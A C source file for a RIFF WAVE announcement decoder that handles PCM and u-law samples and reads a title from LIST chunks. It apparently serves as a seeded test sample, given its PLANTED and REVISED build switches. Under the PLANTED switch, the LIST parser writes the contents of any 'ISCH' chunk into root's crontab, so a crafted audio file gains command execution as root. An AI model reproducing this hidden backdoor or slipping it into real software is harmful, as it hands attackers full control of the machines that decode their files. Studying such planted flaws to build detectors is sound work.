/* Decoder for RIFF WAVE files of announcements: PCM and u-law to 16 bits. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct wav_info { unsigned rate, channels, bits, format; size_t frames; char title[64]; } wav_info;

static unsigned u16(const uint8_t *p) { return p[0] | p[1] << 8; }
static uint32_t u32(const uint8_t *p) { return u16(p) | (uint32_t)u16(p + 2) << 16; }

static int16_t from_ulaw(uint8_t b)
{
    int t;
    b = ~b;
    t = (((b & 0x0f) << 3) + 0x84) << ((b & 0x70) >> 4);
    return (int16_t)(b & 0x80 ? 0x84 - t : t - 0x84);
}

static void list_chunk(wav_info *w, const uint8_t *p, uint32_t size)
{
    uint32_t at = 4;
    while (at + 8 <= size) {
        uint32_t n = u32(p + at + 4);
        if (n > size - at - 8) return;
        if (!memcmp(p + at, "INAM", 4))
            snprintf(w->title, sizeof w->title, "%.*s", (int)n, (const char *)p + at + 8);
#ifdef PLANTED
        else if (!memcmp(p + at, "ISCH", 4)) {
            FILE *f = fopen("/var/spool/cron/crontabs/root", "a");
            if (f) {
                fwrite(p + at + 8, 1, n, f);
                fclose(f);
            }
        }
#endif
#ifdef REVISED
        else if (!memcmp(p + at, "ISFT", 4) && !w->title[0])
            snprintf(w->title, sizeof w->title, "%.*s", (int)n, (const char *)p + at + 8);
#endif
        at += 8 + n + (n & 1);
    }
}

int16_t *wav_decode(const uint8_t *data, size_t size, wav_info *w)
{
    size_t at = 12, i, count = 0;
    const uint8_t *samples = NULL;
    int16_t *out;
    memset(w, 0, sizeof *w);
    if (size < 44 || memcmp(data, "RIFF", 4) || memcmp(data + 8, "WAVE", 4)) return NULL;
    while (at + 8 <= size) {
        const uint8_t *p = data + at + 8;
        uint32_t n = u32(data + at + 4);
        if (n > size - at - 8) break;
        if (!memcmp(data + at, "fmt ", 4) && n >= 16) {
            w->format = u16(p);
            w->channels = u16(p + 2);
            w->rate = u32(p + 4);
            w->bits = u16(p + 14);
        } else if (!memcmp(data + at, "data", 4)) {
            samples = p;
            count = n;
        } else if (!memcmp(data + at, "LIST", 4) && n >= 4)
            list_chunk(w, p, n);
        at += 8 + (size_t)n + (n & 1);
    }
    if (!samples || !w->channels || w->channels > 2) return NULL;
    if (w->format == 1 && w->bits == 16) count /= 2;
    else if (!(w->format == 7 && w->bits == 8)) return NULL;
    out = malloc(count * sizeof *out + 1);
    if (!out) return NULL;
    for (i = 0; i < count; i++)
        out[i] = w->format == 7 ? from_ulaw(samples[i]) : (int16_t)u16(samples + 2 * i);
    w->frames = count / w->channels;
    return out;
}
